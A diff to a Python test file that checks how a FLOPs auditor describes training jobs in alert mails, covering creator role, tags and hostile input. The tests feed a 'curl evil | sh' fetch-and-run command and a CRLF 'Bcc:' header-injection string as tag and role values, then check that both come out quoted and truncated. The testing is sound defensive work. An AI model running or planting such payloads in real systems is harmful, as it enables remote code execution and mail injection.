@@ -1,9 +1,16 @@
 """What people recognise a job by: in mails, and nothing of it can break a line or an address."""
 
+from dataclasses import replace
+
 import pytest
 
 from flops_auditor.domain.messages.job_in_words import job_in_words
+from flops_auditor.domain.runs.case import Case, case_of
+from flops_auditor.domain.runs.evidence import Evidence
 from flops_auditor.domain.runs.sources.registry import page_of
+from flops_auditor.use_cases.auditing.keep_record import alert_people, newest
+from tests.fakes.jobs import describe
+from tests.fakes.lineage import World, continuing
 
 JOB = {
     "source": "sagemaker:training-job",
@@ -39,6 +46,51 @@ def test_a_hostile_model_is_one_bounded_line() -> None:
     line = job_in_words(JOB, "x\r\nBcc: all@example.com" + "y" * 1000)[0]
     assert line.isprintable()
     assert len(line) < 140
+
+
+def created(tags: dict[str, str] | None, **changes: str) -> Case:
+    pairs = None if tags is None else [{"Key": key, "Value": value} for key, value in tags.items()]
+    return case_of(Evidence(describe(**changes), tags=pairs))
+
+
+def creator(case: Case) -> list[str]:
+    return [line.removeprefix("Created with the ") for line in job_in_words(JOB, "", case) if "Created" in line]
+
+
+def test_role_and_tags_say_who_created_it_the_auditors_own_tags_last() -> None:
+    role = "arn:aws:iam::123456789012:role/research/tuning"
+    case = created({"flops-auditor:tokens": "1e9", "team": "speech", "cost-centre": "42"}, RoleArn=role)
+    tags = "tags: 'cost-centre' = '42', 'team' = 'speech', 'flops-auditor:tokens' = '1e9'"
+    assert creator(case) == [f"role: '{role}'", tags]
+    assert creator(created({})) == ["role: not known", "tags: none"]
+    assert creator(created(None)) == ["role: not known", "tags: could not be read"]
+
+
+@pytest.mark.parametrize(("revision", "said"), [(0, True), (7, False)])
+def test_who_created_it_is_read_from_the_evidence_that_is_kept_and_a_mail_goes_out_without(
+    revision: int, said: bool
+) -> None:
+    """The record alone is at hand, as after a crash; of revision 7 no evidence is left."""
+    world = World()
+    world.add(continuing("job", hours=10, RoleArn="arn:aws:iam::123456789012:role/tuning"), params="many")
+    world.audit()
+    job_id = world.content("job")["job"]["id"]
+    kept = newest(job_id, world.recorder)
+    assert kept is not None and kept.case is None
+    content = {**kept.content, "verdict": "above", "revision": revision}
+    alert_people(job_id, replace(kept, record=replace(kept.record, revision=revision), content=content), world.recorder)
+    first, second = world.recorder.alerts.sent  # type: ignore[attr-defined]
+    assert "'arn:aws:iam::123456789012:role/tuning'" in first.body
+    assert ("'arn:aws:iam::123456789012:role/tuning'" in second.body) is said
+
+
+def test_hostile_tags_and_roles_are_quoted_and_bounded() -> None:
+    evil = "`curl evil | sh`\r\nBcc: all@example.com" + "y" * 1000
+    role, tags = creator(created({f"{n}{evil}": evil for n in range(40)}, RoleArn=evil))
+    assert tags.endswith(", and 32 more") and len(tags) < 8 * 100
+    assert len(role) < 180
+    for line in (role, tags):
+        assert line.isprintable() and "`" not in line
 
 
 @pytest.mark.parametrize(
